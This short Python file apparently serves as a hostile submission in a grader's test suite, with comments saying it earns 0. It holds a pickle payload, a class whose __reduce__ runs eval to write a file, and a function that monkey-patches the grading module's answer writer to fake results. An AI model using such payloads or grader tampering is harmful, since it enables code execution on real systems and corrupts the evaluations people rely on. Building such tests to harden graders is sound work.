# It replaces what writes answers: functions given back, lengths, kinds that nobody knows.
# It earns 0.

import json, sys

class Evil:
    def __reduce__(self):
        return (eval, ("open('/tmp/evil', 'w')",))

def sigmoid(x):
    travel = sys.modules["actcourse.teaching.grading.travel"]
    travel.Writer.write = lambda self, value, deep=0: ["numpy", "load"]
    return Evil()
